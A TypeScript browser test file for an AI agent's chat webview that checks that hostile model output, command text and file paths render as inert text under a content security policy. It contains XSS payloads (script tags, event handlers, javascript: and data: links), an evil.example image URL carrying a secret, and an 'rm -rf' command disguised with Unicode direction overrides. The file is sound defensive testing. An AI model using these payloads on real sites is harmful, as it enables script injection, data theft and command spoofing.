// Text of the model, of commands and of files is hostile: it can say anything, and must do nothing.
import assert from "node:assert/strict";
import { openPage } from "./support/open-page.js";
import {
  agentMessage,
  command,
  commandApproval,
  events,
  fileChange,
  thread,
  turn,
  userMessage,
} from "./support/samples.js";

const HOSTILE = `<script>window.hacked = 1</script>

<img src="https://evil.example/pixel.png" onerror="window.hacked = 2">

<iframe src="https://evil.example"></iframe> <style>body { display: none }</style>

![picture](https://evil.example/read?secret=1) ![data](data:text/html,<script>window.hacked=3</script>)

[run](javascript:window.hacked=4) [command](command:workbench.action.quit) [data](data:text/html,x) [entity](javascript&colon;alert(1))

<a href="javascript:window.hacked=5" onclick="window.hacked = 6">click</a>

\`\`\`html
<script>window.hacked = 7</script>
\`\`\`

\`\`\`"><img/src/onerror=alert(1)>
x
\`\`\`

| <b onmouseover="window.hacked = 8">cell</b> |
|---|
| <svg onload="window.hacked = 9"> |

The end.
`;

describe("hostile text", () => {
  it("of a message becomes nothing but text, safe links and code", async () => {
    const { page, post, notify } = await openPage();
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    const e = events();
    await post({ type: "showThread", thread: thread("t1"), turns: [] });
    // Piece by piece as well: half of a tag must be as harmless as all of it.
    await notify([e.turnStarted(), e.started(agentMessage("a", ""))]);
    for (let at = 0; at < HOSTILE.length; at += 40) await notify([e.text("a", HOSTILE.slice(at, at + 40))]);
    await notify([e.completed(agentMessage("a", HOSTILE)), e.turnCompleted()]);
    await page.getByText("The end.").waitFor();

    const message = page.getByLabel("Heddle", { exact: true });
    const elements = await message.evaluate((root) => ({
      names: [...new Set([...root.querySelectorAll("*")].map((element) => element.localName))].sort(),
      attributes: [
        ...new Set([...root.querySelectorAll("*")].flatMap((element) => element.getAttributeNames())),
      ].sort(),
      links: [...root.querySelectorAll("a")].map((link) => link.href),
    }));
    assert.deepEqual(elements, {
      names: [
        "a",
        "button",
        "code",
        "div",
        "p",
        "pre",
        "section",
        "span",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
      ],
      attributes: ["aria-hidden", "aria-label", "class", "href", "tabindex", "title", "type"],
      links: ["https://evil.example/read?secret=1"],
    });
    assert.equal(await page.evaluate(() => "hacked" in window), false);
    assert.deepEqual(requests, []);
    assert.ok((await message.textContent())?.includes("<script>window.hacked = 1</script>"));
  });

  it("of commands, output, paths, titles and users is shown as text", async () => {
    const { page, post } = await openPage();
    const tag = '<img src=x onerror="window.hacked = 1">';
    const items = [
      userMessage("m", tag),
      command("c", `echo ${tag}`, { aggregatedOutput: tag, exitCode: 0 }),
      fileChange("f", [{ path: `/home/me/shop/${tag}`, kind: { type: "add" }, diff: tag }]),
    ];
    await post({ type: "showThread", thread: thread("t1", { name: tag }), turns: [turn("u1", items)] });
    await page.getByRole("heading", { name: tag }).waitFor();
    assert.equal(await page.locator("img").count(), 0);
    assert.equal(await page.evaluate(() => "hacked" in window), false);
  });

  it("cannot make a command look like another one", async () => {
    const { page, post } = await openPage();
    await post({ type: "showThread", thread: thread("t1"), turns: [] });
    await post({
      type: "approvals",
      pending: [commandApproval("q", "c", "rm -rf \u202etxt.daolnwod\u202c ; ls\u200b")],
    });
    assert.equal(
      await page.getByRole("region", { name: "Command", exact: true }).textContent(),
      "rm -rf \\u{202e}txt.daolnwod\\u{202c} ; ls\\u{200b}",
    );
  });

  it("leads to the web and to files only through the extension", async () => {
    const { page, post, next } = await openPage();
    const text = "See [docs](https://example.com/a), `src/price.ts:12` and [notes](docs/notes.md#L3).";
    await post({ type: "showThread", thread: thread("t1"), turns: [turn("u1", [agentMessage("a", text)])] });
    await page.getByRole("link", { name: "docs" }).click();
    assert.deepEqual(await next("openLink"), { type: "openLink", href: "https://example.com/a" });
    await page.getByRole("button", { name: "src/price.ts:12" }).click();
    assert.deepEqual(await next("openFile"), {
      type: "openFile",
      path: "/home/me/shop/src/price.ts",
      line: 12,
    });
    await page.getByRole("button", { name: "notes" }).click();
    assert.deepEqual(await next("openFile"), {
      type: "openFile",
      path: "/home/me/shop/docs/notes.md",
      line: 3,
    });
    assert.equal(page.url().endsWith("/"), true);
  });

  it("is copied as it is", async () => {
    const { page, post, next } = await openPage();
    const text = "```sh\necho '<b>'\n```";
    await post({ type: "showThread", thread: thread("t1"), turns: [turn("u1", [agentMessage("a", text)])] });
    await page.getByRole("button", { name: "Copy code" }).click();
    assert.deepEqual(await next("copy"), { type: "copy", text: "echo '<b>'" });
    await page.getByRole("button", { name: "Copied" }).waitFor();
  });
});

describe("the page's policy", () => {
  it("refuses scripts, styles and pictures of others, and strings as HTML", async () => {
    const { page } = await openPage({
      expectedProblems: ["Content Security Policy", "TrustedHTML", "TrustedScript"],
    });
    const refused = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        directives.push(event.effectiveDirective),
      );
      const add = (name: string, set: (element: HTMLElement) => void) => {
        const element = document.createElement(name);
        set(element);
        document.body.append(element);
      };
      add("script", (element) => element.append("window.hacked = 1"));
      add("style", (element) => element.append("body { color: red }"));
      add("img", (element) => element.setAttribute("src", "http://127.0.0.1:9/pixel.png"));
      add("iframe", (element) => element.setAttribute("src", "http://127.0.0.1:9/"));
      try {
        document.body.insertAdjacentHTML("beforeend", "<b>x</b>");
      } catch (error) {
        directives.push(String(error).includes("TrustedHTML") ? "html" : String(error));
      }
      // Violations are reported as tasks, that of a frame by another process: when it likes, but soon.
      for (let frame = 0; frame < 600 && !directives.includes("frame-src"); frame++) {
        await new Promise(requestAnimationFrame);
      }
      return { directives: [...new Set(directives)].sort(), hacked: "hacked" in window };
    });
    assert.equal(refused.hacked, false);
    for (const directive of ["style-src-elem", "img-src", "frame-src", "html"]) {
      assert.ok(
        refused.directives.includes(directive),
        `${directive} is not among ${refused.directives.join(", ")}`,
      );
    }
  });
});
